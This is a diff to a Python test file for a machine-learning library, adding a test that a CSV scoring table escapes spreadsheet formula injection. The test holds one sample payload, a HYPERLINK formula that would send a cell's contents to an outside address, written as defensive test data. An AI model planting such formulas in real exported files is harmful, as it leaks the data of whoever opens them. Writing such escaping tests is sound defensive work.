@@ -1,6 +1,8 @@
 """Model files: canonical bytes, faithful round trips, and the same predictions in scikit-learn."""
 
+import csv
 import hashlib
+import io
 import json
 
 import numpy as np
@@ -12,6 +14,7 @@ from potluck.core.plan import Data, Model, Split, Target, Training
 from potluck.learning.loops import build
 from potluck.learning.models.model import Model as Trained
 from potluck.learning.models.model import model
+from potluck.learning.models.scoring import table_text
 from support.learning.sums import HEART, category, frames, heart, hospitals, make, number, replaced, run
 
 MIXED = {
@@ -257,3 +260,10 @@ def test_files_without_a_header_are_scored_in_the_plans_column_order(tmp_path):
         assert np.array_equal(found.scores(source), scores, equal_nan=True)
     with pytest.raises(DataError, match="has 9 columns where 14 are expected"):
         found.scores(np.zeros((2, 9)))
+
+
+def test_no_spreadsheet_takes_the_scores_of_others_models_for_formulas():
+    """The names of classes are their author's, and stand in a file that the client may open with any program."""
+    evil = '=HYPERLINK("https://192.0.2.1/?"&A2)'
+    rows = list(csv.reader(io.StringIO(table_text((evil, "@x", "-1", "b"), [(0.5, -0.5, float("nan"), evil)]))))
+    assert rows == [["row", f"'{evil}", "'@x", "-1", "b"], ["0", "0.5", "-0.5", "", f"'{evil}"]]
